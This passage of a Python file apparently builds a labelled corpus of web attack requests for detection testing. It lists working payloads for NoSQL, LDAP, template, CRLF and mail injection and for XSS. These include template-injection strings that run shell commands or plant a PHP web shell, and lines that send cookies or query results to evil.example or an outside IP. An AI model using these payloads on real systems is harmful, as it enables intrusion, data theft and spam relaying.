    ),
    A('{"$elemMatch":{"role":"admin"}}', "json", jobj=True, param="roles"),
    A('{"$comment":"x","$ne":"a"}', "json", jobj=True, param="token", ep="/api/sessions"),
    A('{"$gt": ""}', "multipart", mp="field", param="password", ep="/api/auth/login"),
    A('{"owner":{"$ne":null}}', "header", hdr="X-Filter", ep="/api/v1/tickets"),
    # ---- hard
    A('{"$ne":"x"}', "json", 1, jobj=True, rj=True, ep="/api/auth/login", doc={"username": "admin", "password": MARK}),
    A("$where", "json_key", 1, doc={"query": {"filter": {"meta": {"tags": {KMARK: "sleep(3000)"}}}}}),
    A(
        "$regex",
        "json_key",
        1,
        ep="/api/v1/users/search",
        doc={"criteria": {"and": [{"field": {"email": {KMARK: "^admin@", "$options": "i"}}}]}},
    ),
    A("filter[password][$regex]", "query_key", 1, kval="^p", mode="full", ep="/api/accounts/lookup"),
    A("user[$nin][]", "form", 1, key=True, kval="nobody", ep="/login"),
    A(
        '{"$where":"(function(){var d=new Date();do{var c=new Date();}while(c-d<3000);return true;})()"}',
        "json",
        1,
        jobj=True,
        param="filter",
    ),
    A("'||this.constructor.constructor('return sleep(2000)')()||'", "query", 1, param="q"),
    A('{"$regex":"^\\\\u0061dm"}', "json", 1, jobj=True, param="username"),
    A('{"$or":[{"role":"admin"},{"$where":"1==1"}]}', "json", 1, param="filter", deep=2),
    A('j:{"$ne":null}', "cookie", 1, ck="auth"),
    A("'/**/OR/**/1=1/**/RETURN/**/n//", "query", 1, param="name", ep="/api/graph/people"),
    A(
        "' OR 1=1 WITH 1 AS x CALL apoc.load.json('http://203.0.113.9/'+x) YIELD value RETURN value //",
        "form",
        1,
        param="name",
        ep="/api/graph/people",
    ),
    A("\\u0027 OR 1=1 RETURN n //", "json", 1, param="title", ep="/api/graph/nodes"),
    A(
        '{"$function":{"body":"function(){return eval(atob(\'c2xlZXAoMzAwMCk=\'))}","args":[],"lang":"js"}}',
        "json",
        1,
        jobj=True,
        param="score",
    ),
    A(
        '{"$ne":"wrong"}',
        "json",
        1,
        jobj=True,
        ep="/graphql",
        doc={
            "query": "query Login($u: JSON, $p: JSON) { login(username: $u, password: $p) { token } }",
            "variables": {"u": "admin", "p": MARK},
        },
    ),
    A("username[$gt]", "query_key", 1, kval="", mode="mixed", ep="/api/auth/login"),
    A("true, $where: '1 == 1'", "query", 1, param="active"),
    A('[{"$match":{}},{"$out":"users"}]', "json", 1, jobj=True, param="pipeline", ep="/api/reports/aggregate"),
    A(
        '[{"$lookup":{"from":"admins","pipeline":[{"$match":{}}],"as":"x"}}]',
        "json",
        1,
        jobj=True,
        param="stages",
        deep=2,
    ),
    A(
        '{"query":{"script":{"script":"doc[\'password\'].value.startsWith(\'a\')"}}}',
        "json",
        1,
        param="raw_query",
        ep="/api/search",
    ),
]

# ---------------------------------------------------------------- ldapi
CTX["ldapi"] = dict(
    eps=[
        "/login",
        "/api/directory/search",
        "/people",
        "/auth/ldap",
        "/api/v1/users/lookup",
        "/address-book",
        "/sso/login",
        "/admin/groups",
    ],
    params=["user", "username", "uid", "cn", "q", "search", "mail", "group", "name", "dept"],
)

LDAPI = [
    A("*)(uid=*))(|(uid=*", "form", param="username", ep="/auth/ldap"),
    A("admin)(&)", "form", param="username", ep="/login"),
    A("*)(|(objectClass=*)", "query", param="q"),
    A("*)(userPassword=*)", "query", param="search"),
    A("admin*)((|userPassword=*)", "form", param="user", ep="/sso/login"),
    A("x)(|(cn=*))", "query", param="cn"),
    A("admin)(|(password=*))\x00", "query", param="uid"),
    A("*)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=example,DC=com)", "query", param="group"),
    A("*)(mail=*@*", "json", param="mail"),
    A("admin)(!(&(1=0", "form", param="username", ep="/auth/ldap"),
    A("*)(sAMAccountName=adm*", "query", param="name"),
    A("a*)(description=A*", "query", param="q"),
    A("*)(|(objectClass=person)(objectClass=computer))", "json", param="search"),
    A("cn=admin,dc=example,dc=com)(|(cn=*)", "form", param="dn", ep="/admin/groups"),
    A("*)(userAccountControl:1.2.840.113556.1.4.803:=2)", "query", param="filter"),
    A("jdoe)(|(telephoneNumber=*))", "json", param="uid"),
    A("*)(objectCategory=group)(cn=*admin*", "query", param="group"),
    A("*)(|(uid=admin)(uid=root)", "form", param="user"),
    A(")(cn=*))(|(cn=*", "xml", param="cn", ep="/api/directory/search"),
    A("*)(unicodePwd=*)", "query", param="name"),
    A("*)(|(ms-Mcs-AdmPwd=*)", "query", param="cn", ep="/api/v1/computers/lookup"),
    A("admin)(|(objectclass=*)", "multipart", mp="field", param="username", ep="/auth/ldap"),
    A("*)(sn=*)(|(sn=*", "cookie", ck="ldap_user", ep="/address-book"),
    A("(&(objectClass=user)(cn=*))", "query", param="filter", ep="/api/directory/search"),
    A('{ directory(search: "*)(homeDirectory=*") { dn mail } }', "json", ep="/graphql", doc={"query": MARK}),
    A("*)(objectClass=*))(&(objectClass=void", "form", param="search"),
    A("admin)(userPassword=a*", "query", param="uid"),
    A("*)(|(departmentNumber=*)", "json", param="dept"),
    A("*)(uid=*)(|(uid=", "header", hdr="X-Remote-User", ep="/api/v1/users/me"),
    A("ou=people,dc=corp,dc=example)(objectClass=*", "query", param="base"),
    # ---- hard
    A("\\2a)(uid=\\2a))(|(uid=\\2a", "query", 1, param="uid"),
    A("%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a", "query", 1, param="username"),
    A("\uff0a)(uid=\uff0a", "json", 1, param="user"),
    A("*) (| (uid=*) )", "form", 1, param="user"),
    A("*)(UsErPaSsWoRd=*)", "query", 1, param="cn"),
    A("admin)(|(cn:caseExactMatch:=Admin)", "query", 1, param="search"),
    A("*)(2.5.4.3=*)", "json", 1, param="cn"),
    A("*)(objectClass=*)\\00", "form", 1, param="username"),
    A("*)(cn~=admin)", "query", 1, param="name"),
    A("*)(!(cn=nonexistent))", "query", 1, param="q"),
    A("*)\n(|(uid=*)", "form", 1, param="username"),
    A("*)(uid=*))%00", "cookie", 1, ck="dir_user"),
    A("*)(userPassword>=A)", "query", 1, param="uid"),
    A("*)(|(mail=*)(mail=\\2a@*", "json", 1, param="mail", deep=2),
    A("*)(|(displayName=*", "json", 1, param="search"),
    A("admin\\,ou=people)(|(cn=*", "query", 1, param="dn"),
    A("a)(|(objectClass=*))(&(a=b", "multipart", 1, mp="field", param="cn"),
    A("*)(objectSid=S-1-5-21-*-500)", "xml", 1, param="filter", ep="/api/directory/search"),
    A("*))(|(uid=*)(|(cn=*", "header", 1, hdr="X-Forwarded-User", ep="/api/v1/users/me"),
    A("*)(description=*pass*)", "query", 1, param="dept"),
]

# ---------------------------------------------------------------- ssti
CTX["ssti"] = dict(
    eps=[
        "/greeting",
        "/api/v1/templates/preview",
        "/newsletter/preview",
        "/profile",
        "/api/notifications/render",
        "/invoice/preview",
        "/cms/blocks/render",
        "/api/email/test",
        "/share",
        "/api/reports/title",
    ],
    params=["name", "template", "subject", "message", "title", "greeting", "body", "content", "footer", "q"],
)

SSTI = [
    A("{{7*'7'}}", "query", param="name"),
    A("{=system('id')}", "query", param="q", ep="/share"),
    A(
        "<%~ it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>",
        "form",
        param="message",
    ),
    A("{{cycler.__init__.__globals__.os.popen('id').read()}}", "json", param="subject"),
    A("{{= global.process.mainModule.require('child_process').execSync('whoami') }}", "query", param="greeting"),
    A(
        "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        "form",
        param="content",
    ),
    A('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "query", param="title"),
    A("{{['id']|filter('system')}}", "json", param="footer"),
    A("<%- global.process.mainModule.require('child_process').execSync('cat /etc/hostname') %>", "form", param="body"),
    A(
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "json",
        param="template",
        ep="/api/v1/templates/preview",
    ),
    A(
        "<%= global.process.mainModule.constructor._load('child_process').execSync('ls /') %>",
        "query",
        param="subject",
        ep="/api/email/test",
    ),
    A('#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x', "form", param="template"),
    A("{system('id')}", "query", param="name"),
    A(
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        "form",
        param="footer",
    ),
    A('${self.module.cache.util.os.system("id")}', "json", param="title"),
    A("#import os\n$os.popen('id').read()", "multipart", mp="field", param="template", ep="/api/v1/templates/preview"),
    A("<%= `id` %>", "query", param="message"),
    A("#{%x(cat /etc/passwd)}", "json", param="body", deep=2),
    A(
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
        "form",
        param="name",
    ),
    A(
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "json",
        param="greeting",
    ),
    A('{% import os %}{{ os.popen("id").read() }}', "query", param="content"),
    A("{!! shell_exec('id') !!}", "json", param="signature", ep="/api/email/test"),
    A('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "form", param="message"),
    A("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "json", param="title"),
    A('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "path", pre="/doc/", ep="/doc"),
    A(
        "{% set cmd = 'id' %}{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec(cmd) }}",
        "json",
        param="template",
    ),
    A(
        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('new java.lang.ProcessBuilder([\"id\"]).start()')}}",
        "form",
        param="email_body",
        ep="/newsletter/preview",
    ),
    A(
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
        "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
        "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
        "json",
        param="body",
        ep="/api/notifications/render",
    ),
    A('{{ printf "%s" .Config.DatabasePassword }}', "query", param="title", ep="/api/reports/title"),
    A("{% include '/etc/passwd' %}", "json", param="content", ep="/cms/blocks/render"),
    # ---- hard
    A(
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
        "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        "query",
        1,
        param="name",
    ),
    A("{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}", "form", 1, param="message"),
    A(
        '{%print(lipsum|attr("__globals__"))|attr("get")("os")|attr("popen")("id")|attr("read")()%}',
        "json",
        1,
        param="subject",
    ),
    A(
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
        "query",
        1,
        param="greeting",
    ),
    A(
        "{{''[request.args.a][request.args.b][2][request.args.c]()}}",
        "query",
        1,
        ep="/greeting",
        qs=[("name", MARK), ("a", "__class__"), ("b", "__mro__"), ("c", "__subclasses__")],
    ),
    A(
        "{{''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]}}",
        "cookie",
        1,
        ck="display_name",
        ep="/profile",
    ),
    A(
        "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
        "json",
        1,
        param="footer",
        deep=4,
    ),
    A(
        '{%with a=request["application"]["\\x5f\\x5fglobals\\x5f\\x5f"]["\\x5f\\x5fbuiltins\\x5f\\x5f"]["\\x5f\\x5fimport\\x5f\\x5f"]("os")["popen"]("id")["read"]()%}{{a}}{%endwith%}',
        "form",
        1,
        param="title",
    ),
    A(
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
        "json",
        1,
        param="description",
        ep="/api/v1/templates/preview",
    ),
    A(
        '<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>'
        '<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
        "multipart",
        1,
        mp="file",
        fname="invoice.ftl",
        fctype="text/plain",
        field="template",
        ep="/api/v1/templates/upload",
    ),
    A(
        '#set( $rt = $x.class.forName( "java.lang.Runtime" ) )\n#set( $p = $rt.getRuntime().exec( "id" ) )\n$p.waitFor()',
        "form",
        1,
        param="body",
    ),
    A("{if system('id')}{/if}", "query", 1, param="footer"),
    A("{{['id',\"\"]|sort('passthru')}}", "json", 1, param="content"),
    A(
        "#{global['proc'+'ess']['mainModule']['require']('child_'+'process')['execSync']('id')}",
        "form",
        1,
        param="name",
    ),
    A(
        "{{ ''.constructor.constructor('return this')()['\\x70rocess'].mainModule.require('child_process').execSync('id') }}",
        "json",
        1,
        param="greeting",
    ),
    A(
        '{{"\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e"}}',
        "query",
        1,
        param="title",
        ep="/api/reports/title",
    ),
    A(
        '@{ var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("c"+"md","/c whoami")); }',
        "json",
        1,
        param="message",
    ),
    A('<%\nx=__import__("o"+"s")\n%>${x.popen("id").read()}', "multipart", 1, mp="field", param="content"),
    A("%7B%7B7*7%7D%7D", "query", 1, param="q"),
    A(
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
        "xml",
        1,
        param="title",
        ep="/api/legacy/render",
    ),
]

# ---------------------------------------------------------------- crlf
CTX["crlf"] = dict(
    eps=[
        "/redirect",
        "/set-language",
        "/api/v1/download",
        "/logout",
        "/track",
        "/login",
        "/r",
        "/go",
        "/export",
        "/i18n/switch",
    ],
    params=["url", "lang", "next", "return", "file", "redirect_uri", "ref", "continue", "callback", "name"],
)

CRLF = [
    A("en\r\nSet-Cookie: sessionid=attacker123", "query", param="lang", ep="/set-language"),
    A("/home\r\nLocation: https://evil.example/", "query", param="next", ep="/login"),
    A("\r\nSet-Cookie:admin=true", "path", pre="/r/", ep="/r"),
    A(
        "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "query",
        param="file",
        ep="/api/v1/download",
    ),
    A("https://shop.example.com/\r\nRefresh: 0; url=https://evil.example/", "query", param="return", ep="/logout"),
    A(
        "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
        "query",
        param="url",
        ep="/redirect",
    ),
    A("export.xlsx\nSet-Cookie: tracking=1", "form", param="filename", ep="/export"),
    A("de\r\nAccess-Control-Allow-Origin: https://evil.example", "cookie", ck="lang", ep="/i18n/switch"),
    A("https://app.example.com/cb\r\nX-Injected: 1", "json", param="redirect_uri", ep="/api/oauth/clients"),
    A(
        "\r\n\r\n<html><body>Session expired, log in at https://evil.example</body></html>",
        "query",
        param="continue",
        ep="/go",
    ),
    A("utf-8\r\nX-XSS-Protection: 0", "query", param="charset", ep="/export"),
    A("/dashboard\r\nSet-Cookie: csrftoken=fixed; Path=/", "form", param="next", ep="/login"),
    A("admin\r\n[2026-12-07 23:41:02] INFO login succeeded user=root", "form", param="username", ep="/login"),
    A("https://shop.example.com/%0d%0aSet-Cookie:%20a=b", "header", hdr="Referer", ep="/track"),
    A("10.0.0.1%0d%0aX-Admin:%20true", "header", hdr="X-Forwarded-For", ep="/admin/"),
    A("session:1\r\nSET pwn 1\r\n", "json", param="cache_key", ep="/api/cache/purge"),
    A("key1\r\nflush_all\r\n", "query", param="key", ep="/api/cache/get"),
    A(
        "attachment.pdf\r\nContent-Disposition: inline",
        "multipart",
        mp="field",
        param="download_name",
        ep="/api/v1/files",
    ),
    A("\nLocation: javascript:alert(1)", "query", param="url", ep="/redirect"),
    A("?\r\nLink: <https://evil.example/s.css>; rel=stylesheet", "query", param="ref", ep="/track"),
    A("\r\nContent-Security-Policy: default-src *", "query", param="callback", ep="/api/jsonp"),
    A("invoice.pdf\r\nX-Accel-Redirect: /internal/secrets", "xml", param="filename", ep="/api/legacy/download"),
    A("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", "query", param="path", ep="/api/proxy"),
    A(
        "https://cdn.example.com/img.png HTTP/1.1\r\nX-Injected: 1\r\nFoo: ",
        "json",
        param="image_url",
        ep="/api/v2/avatar",
    ),
    A("inline\r\nSet-Cookie: role=admin", "query", param="disposition", ep="/api/v1/download"),
    A("text/html\r\n\r\n<svg onload=alert(1)>", "query", param="type", ep="/api/v1/download"),
    A("%0D%0ASet-Cookie:%20sid=0", "header", hdr="X-Request-Id", ep="/api/v1/status"),
    A("\r\nLocation: //evil.example", "form", param="return_to", ep="/logout"),
    A("en-US\r\nX-Frame-Options: ALLOWALL", "query", param="locale", ep="/i18n/switch"),
    A("/account\r\nStrict-Transport-Security: max-age=0", "query", param="next", ep="/go"),
    # ---- hard
    A("\u560a\u560dSet-Cookie: x=1", "query", 1, param="lang", ep="/set-language"),
    A("%u000d%u000aSet-Cookie:x=1", "query", 1, param="next", ep="/login"),
    A("%0d%0aSet-Cookie: promo=1", "query", 1, param="url", ep="/redirect"),
    A("\nSet-Cookie: lf=1", "query", 1, param="ref"),
    A("en\rSet-Cookie: cr=1", "query", 1, param="lang"),
    A("/\r\n\tSet-Cookie: fold=1", "form", 1, param="next"),
    A("https://shop.example.com/%0D%0A%20X-Injected:%20folded", "header", 1, hdr="Referer", ep="/track"),
    A("en\u0085Set-Cookie: nel=1", "query", 1, param="locale"),
    A("\u010d\u010aSet-Cookie: latin=1", "query", 1, param="continue"),
    A(
        "https://app.example.com/done\r\nSet-Cookie: u=1",
        "json",
        1,
        param="returnUrl",
        rjrep=[("\\r\\n", "\\u000d\\u000a")],
    ),
    A("%0dX-Inj:1", "path", 1, pre="/r/", ep="/r"),
    A('{"X-Trace":"abc\\r\\nSet-Cookie: j=1"}', "json", 1, param="headers", ep="/api/webhooks/test"),
    A("en\u2028Set-Cookie: ls=1", "json", 1, param="locale", rjrep=[("\u2028", "\\u2028")]),
    A("/\r\nsEt-CoOkIe: mixed=1", "query", 1, param="redirect_uri"),
    A("evil.example%0d%0aX-Original-URL: /admin", "header", 1, hdr="X-Forwarded-Host", ep="/"),
    A("&#13;&#10;Set-Cookie: ent=1", "query", 1, param="file"),
    A("en\\x0d\\x0aSet-Cookie: bs=1", "query", 1, param="lang"),
    A("%c0%8d%c0%8aSet-Cookie: ovl=1", "query", 1, param="url"),
    A(
        'mutation { setLocale(locale: "en\\r\\nSet-Cookie: gql=1") { ok } }',
        "json",
        1,
        ep="/graphql",
        doc={"query": MARK},
    ),
    A("/home%E5%98%8A%E5%98%8DLocation:%20https://evil.example", "cookie", 1, ck="return_path", ep="/login"),
]

# ---------------------------------------------------------------- mail injection
CTX["mail_injection"] = dict(
    eps=[
        "/contact",
        "/api/v1/share/email",
        "/newsletter/subscribe",
        "/support/ticket",
        "/invite",
        "/password/forgot",
        "/api/mail/send",
        "/feedback",
        "/api/referrals",
        "/careers/apply",
    ],
    params=["email", "to", "from", "subject", "name", "reply_to", "cc", "message", "recipient", "sender"],
)

_ew = base64.b64encode(b"x\r\nBcc: b64@evil.example").decode()

MAIL = [
    A(
        "victim@example.com\r\nBcc: list1@spam.example,list2@spam.example",
        "form",
        ep="/contact",
        fields=[("name", "Jane"), ("email", MARK), ("subject", "Question"), ("message", "Hi there")],
    ),
    A("Hello\r\nBcc: leak@attacker.example", "form", param="subject", ep="/contact"),
    A("x@example.com\nCc: everyone@corp.example", "json", param="to", ep="/api/v1/share/email"),
    A(
        'John\r\nContent-Type: text/html\r\n\r\n<a href="https://evil.example">Verify your account</a>',
        "form",
        param="name",
        ep="/feedback",
    ),
    A("a@example.org\r\nFrom: ceo@northwind.test", "json", param="reply_to", ep="/api/mail/send"),
    A("support@example.com>\r\nRCPT TO:<victim@corp.example>", "json", param="sender", ep="/api/mail/send"),
    A(
        "me@example.com\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT",
        "form",
        param="email",
        ep="/newsletter/subscribe",
    ),
    A('"attacker\\" -oQ/tmp/ -X/var/www/html/log.php some"@example.com', "form", param="email", ep="/contact"),
    A("-OQueueDirectory=/tmp -X/var/www/html/cache/x.php", "form", param="sender", ep="/contact"),
    A("INBOX\r\nA002 DELETE INBOX", "query", param="mailbox", ep="/webmail/list"),
    A('1\r\nA7 LIST "" *', "query", param="uid", ep="/webmail/message"),
    A("victim@example.com,attacker@evil.example", "json", param="email", ep="/password/forgot"),
    A("Subject line\r\nX-Mailer: spoof\r\nReply-To: phish@evil.example", "json", param="subject", ep="/api/mail/send"),
    A("noreply@example.com\r\nSender: security@bankofexample.test", "form", param="from", ep="/api/mail/send"),
    A(
        "feedback\r\n\r\nThis is an injected body.\r\n.\r\n",
        "multipart",
        mp="field",
        param="subject",
        ep="/support/ticket",
    ),
    A(
        "user@example.com\r\nBcc: a@spam.example\r\nBcc: b@spam.example",
        "query",
        param="email",
        ep="/newsletter/subscribe",
    ),
    A("Bob <bob@example.com>\r\nTo: all-staff@corp.example", "json", param="name", ep="/invite"),
    A("alice@example.com>\r\nMAIL FROM:<spoof@bank.example>", "xml", param="email", ep="/api/legacy/notify"),
    A("x@y.com\r\nContent-Transfer-Encoding: base64", "form", param="reply_to", ep="/contact"),
    A('["victim@example.com","attacker@evil.example"]', "json", jobj=True, param="email", ep="/password/forgot"),
    A("victim@example.com\r\nReply-To: attacker@evil.example", "query", param="email", ep="/password/forgot"),
    A("test@example.com\nX-Priority: 1\nImportance: high", "form", param="cc", ep="/api/v1/share/email"),
    A("Invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XYZ", "json", param="subject", deep=2),
    A(
        'mutation { shareArticle(id: 42, to: "friend@example.net\\r\\nBcc: harvest@evil.example") { ok } }',
        "json",
        ep="/graphql",
        doc={"query": MARK},
    ),
    A('{"to":"a@example.com\\r\\nBcc: b@evil.example"}', "json", param="recipient", ep="/api/referrals"),
    A("a@b.example -C/etc/passwd -X/var/www/html/out.txt", "json", param="from", ep="/api/mail/send"),
    A("info@example.com\r\n\r\nClick https://evil.example/reset to continue", "query", param="reply_to", ep="/contact"),
    A("me@example.com\r\nBcc: c@evil.example", "cookie", ck="last_email", ep="/newsletter/subscribe"),
    A("mail.example.com\r\nVRFY root", "form", param="smtp_helo", ep="/admin/settings/mail"),
    A("Applicant\r\nBcc: resumes@evil.example", "multipart", mp="field", param="full_name", ep="/careers/apply"),
    # ---- hard
    A("=?utf-8?q?hello=0D=0ABcc:_x@evil.example?=", "form", 1, param="subject"),
    A("victim@example.com%0d%0aBcc:spy@evil.example", "query", 1, param="email", ep="/newsletter/subscribe"),
    A("a@example.com\n\tBcc: fold@evil.example", "json", 1, param="to"),
    A('"a\r\nBcc: b@evil.example"@example.com', "form", 1, param="email"),
    A("victim@example.com;attacker@evil.example", "json", 1, param="email", ep="/password/forgot"),
    A("victim@example.com (comment\r\nBcc: c@evil.example)", "form", 1, param="reply_to"),
    A("=?iso-8859-1?b?%s?=" % _ew, "json", 1, param="name"),
    A("user@example.com\u2028Bcc: ls@evil.example", "json", 1, param="email"),
    A("user@example.com%u000aBcc: u@evil.example", "query", 1, param="email"),
    A(
        "victim@example.com\r\nBcc: uesc@evil.example",
        "json",
        1,
        param="recipient",
        rjrep=[("\\r\\n", "\\u000D\\u000A")],
    ),
    A("victim@example.com\r\n bcc: lower@evil.example", "form", 1, param="email"),
    A("x@example.com\t-X/var/www/html/t.php", "form", 1, param="sender"),
    A("Drafts\r\nA9 STORE 1:* +FLAGS (\\Deleted)", "query", 1, param="mailbox", ep="/webmail/list"),
    A("a@example.com>\r\nRSET\r\nMAIL FROM:<x@evil.example>", "json", 1, param="from"),
    A("victim@example.com\x00attacker@evil.example", "query", 1, param="email", ep="/password/forgot"),
    A("victim@example.com\r\nBcc:\r\n\tx@evil.example", "multipart", 1, mp="field", param="email"),
    A("Hi\r\nSubject: ok\r\n\r\nbody", "json", 1, param="subject", rjrep=[("\\r\\n\\r\\n", "\\u000d\\n\\r\\u000a")]),
    A("news@example.com\r\nCc: xml@evil.example", "xml", 1, param="from", xmode="ref", ep="/api/legacy/notify"),
    A("victim@example.com\r\nTo: victim2@example.com", "cookie", 1, ck="share_to"),
    A(
        "=?UTF-8?B?%s?=" % base64.b64encode("Ünïcode\r\nBcc: utf@evil.example".encode()).decode(),
        "form",
        1,
        param="name",
    ),
]

# ---------------------------------------------------------------- xss
CTX["xss"] = dict(
    eps=[
        "/search",
        "/comments",
        "/api/v1/posts",
        "/profile/update",
        "/guestbook",
        "/api/messages",
        "/product/review",
        "/error",
        "/wiki/edit",
        "/feedback",
    ],
    params=["q", "comment", "bio", "message", "name", "title", "body", "text", "redirect", "error"],
)

XSS = [
    A("<script>alert(document.domain)</script>", "query", param="q", ep="/search"),
    A('"><img src=x onerror=alert(1)>', "query", param="name"),
    A("<svg onload=confirm(document.cookie)>", "form", param="comment", ep="/comments"),
    A("javascript:alert(document.cookie)", "json", param="website", ep="/profile/update"),
    A('<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', "json", param="bio", ep="/profile/update"),
    A("<details open ontoggle=alert(1)>", "form", param="message"),
    A("<body onpageshow=alert(1)>", "query", param="error", ep="/error"),
    A("'-alert(1)-'", "query", param="callback", ep="/api/jsonp"),
    A("</script><script>fetch('https://evil.example/?c='+document.cookie)</script>", "query", param="q"),
    A("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "json", param="body", ep="/api/v1/posts"),
    A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "form", param="text"),
    A("<input autofocus onfocus=alert(1)>", "query", param="error", ep="/error"),
    A("<video><source onerror=alert(1)>", "json", param="message", ep="/api/messages"),
    A(
        "<x oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>",
        "form",
        param="title",
    ),
    A(
        "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>go</button>",
        "json",
        param="body",
        deep=2,
    ),
    A('<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(1)">', "query", param="q"),
    A("{{constructor.constructor('alert(1)')()}}", "query", param="q", ep="/search"),
    A(
        "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
        "multipart",
        mp="field",
        param="comment",
        ep="/comments",
    ),
    A("<svg/onload=fetch('//evil.example/'+document.cookie)>", "header", hdr="Referer", ep="/"),
    A("[click me](javascript:alert(1))", "json", param="content", ep="/wiki/edit"),
    A(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
        "form",
        param="body",
        ep="/guestbook",
    ),
    A("<form><button formaction=javascript:alert(1)>Submit</button></form>", "json", param="signature"),
    A('<object data="javascript:alert(1)">', "query", param="title"),
    A('<base href="//evil.example/">', "form", param="bio", ep="/profile/update"),
    A('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "json", param="description"),
    A(
        "<svg onload=alert(1)>.png",
        "multipart",
        mp="filename",
        field="attachment",
        fctype="text/plain",
        fcontent="hello\n",
        ep="/api/messages",
    ),
    A(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n',
        "multipart",
        mp="file",
        fname="logo.svg",
        fctype="image/svg+xml",
        field="logo",
        ep="/profile/update",
    ),
    A("<script src=//evil.example/x.js></script>", "header", hdr="User-Agent", ep="/"),
    A("<img src=1 onerror=prompt(1)>", "xml", param="comment", ep="/api/legacy/comments"),
    A('"><svg onload=alert(2)>', "cookie", ck="username", ep="/profile"),
    # ---- hard
    A('<a href="jav&#x09;ascript:alert(1)">x</a>', "query", 1, param="q"),
    A("<sCrIpT>alert(1)</ScRiPt>", "form", 1, param="comment"),
    A("<scr<script>ipt>alert(1)</scr</script>ipt>", "json", 1, param="message"),
    A("&lt;script&gt;alert(1)&lt;/script&gt;", "query", 1, param="name"),
    A("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", "form", 1, param="text"),
    A("%3Cscript%3Ealert(1)%3C%2Fscript%3E", "query", 1, param="redirect"),
    A("<svg><script>alert&#40;1&#41;</script>", "json", 1, param="title"),
    A("<img src=x onerror=alert`1`>", "query", 1, param="q"),
    A("<img src=x onerror=top['al'+'ert'](1)>", "json", 1, param="bio", jhtml=True),
    A("<svg onload=\\u0061lert(1)>", "form", 1, param="body"),
    A("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "json", 1, param="text"),
    A("<svg onload=alert(1)//", "query", 1, param="error"),
    A("<img/src/onerror=alert(1)>", "cookie", 1, ck="nickname"),
    A('<iframe src="javas\tcript:alert(1)">', "json", 1, param="html", deep=3),
    A("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "query", 1, param="q"),
    A('<a href="&#106;avascript:alert(1)">profile</a>', "multipart", 1, mp="field", param="website"),
    A(
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "query",
        1,
        param="redirect",
    ),
